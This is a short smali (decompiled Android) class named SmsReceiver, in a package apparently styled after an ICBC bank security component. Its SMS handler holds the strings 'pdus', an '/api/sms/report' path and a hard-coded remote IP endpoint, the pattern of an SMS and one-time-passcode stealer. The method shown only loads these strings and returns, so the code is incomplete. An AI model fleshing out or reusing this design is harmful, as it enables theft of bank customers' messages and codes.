.class public Lcom/icbc/anquan/kongjian/SmsReceiver;
.super Landroid/content/BroadcastReceiver;
.source "SmsReceiver.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 5
    const-string v0, "pdus"
    const-string v1, "/api/sms/report"
    const-string v2, "http://45.137.21.9:8080"
    return-void
.end method
